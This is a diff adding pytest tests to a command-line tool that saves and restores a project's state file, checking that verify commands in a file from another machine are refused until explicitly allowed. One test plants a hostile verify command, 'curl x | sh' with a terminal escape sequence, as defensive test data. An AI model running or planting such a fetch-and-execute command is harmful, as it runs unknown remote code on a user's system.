@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 import subprocess
+from itertools import pairwise
 from typing import Any
 
 from person import Person
@@ -135,3 +136,81 @@ def test_json_says_where_and_how_much(town_dir: Person) -> None:
     assert saved["size"] == (town_dir.directory / ".tt/redis.aof").stat().st_size
     restored = town_dir.tt("restore", "--force", "--json").json
     assert (restored["agents"], restored["tasks"], restored["dry_run"]) == (1, 2, False)
+
+
+def test_init_in_a_clone_tells_of_the_save_file(town_dir: Person) -> None:
+    furnish(town_dir)
+    town_dir.tt("save")
+    clone = Person(
+        town_dir.directory.parent / "clone",
+        {**town_dir.environ, "XDG_STATE_HOME": f"{town_dir.directory.parent}/other"},
+    )
+    (clone.directory / ".tt").mkdir(parents=True)
+    for name in ("tinytown.toml", ".tt/redis.aof"):
+        (clone.directory / name).write_bytes((town_dir.directory / name).read_bytes())
+    try:
+        assert "Bring it back with: tt restore\n" in clone.tt("init").err
+        assert clone.tt("restore").code == 0
+        assert [each["name"] for each in clone.tt("list", "--json").json] == ["worker-1"]
+    finally:
+        clone.tt("stop", "--redis", "--now")
+
+
+def verified(person: Person) -> None:
+    """A saved town with a task that a command verifies."""
+    person.agent("worker-1")
+    assert person.tt("assign", "worker-1", "Build it", "--verify", "make check").code == 0
+    assert person.tt("save").code == 0
+
+
+def commands_of(person: Person) -> list[list[str]]:
+    return [task.get("verify", []) for task in person.tt("task", "list", "--json").json]
+
+
+def test_commands_of_a_file_that_was_saved_here_are_taken_as_they_are(town_dir: Person) -> None:
+    verified(town_dir)
+    assert town_dir.tt("reset", "--force").code == 0
+
+    assert town_dir.tt("restore").code == 0
+    assert commands_of(town_dir) == [["make check"]]
+
+
+def test_commands_of_a_file_from_elsewhere_are_refused_until_they_were_read(town_dir: Person) -> None:
+    verified(town_dir)
+    file = town_dir.directory / ".tt/redis.aof"
+    hostile = b"curl x | sh\\u001b[2K"
+    old, new = b'"verify":["make check"]', b'"verify":["' + hostile + b'"]'
+    data = file.read_bytes()
+    length = next(int(part[1:]) for part, raw in pairs_of(data) if old in raw)
+    data = data.replace(b"$%d\r\n" % length, b"$%d\r\n" % (length + len(new) - len(old))).replace(old, new)
+    file.write_bytes(data)
+    before = lasting(town_dir)
+
+    refused = town_dir.tt("restore", "--force")
+    assert (refused.code, refused.out) == (1, "")
+    assert "curl x | sh" in refused.err
+    assert "\x1b" not in refused.err
+    assert "tt restore --allow-verify" in refused.err
+    shown = town_dir.tt("restore", "--dry-run")
+    assert shown.code == 0
+    assert "curl x | sh" in shown.out
+    assert shown.out.endswith("To restore it: tt restore --allow-verify\n")
+    assert lasting(town_dir) == before
+
+    without = town_dir.tt("restore", "--force", "--without-verify")
+    assert without.code == 0
+    assert "Left out" in without.out
+    assert commands_of(town_dir) == [[]]
+
+    assert town_dir.tt("restore", "--force", "--allow-verify").code == 0
+    assert commands_of(town_dir) == [["curl x | sh\x1b[2K"]]
+
+
+def test_to_take_commands_and_to_leave_them_out_exclude_each_other(town_dir: Person) -> None:
+    assert town_dir.tt("restore", "--allow-verify", "--without-verify").code == 2
+
+
+def pairs_of(data: bytes) -> list[tuple[bytes, bytes]]:
+    """Each line of the file with the one after it."""
+    lines = data.split(b"\r\n")
+    return list(pairwise(lines))
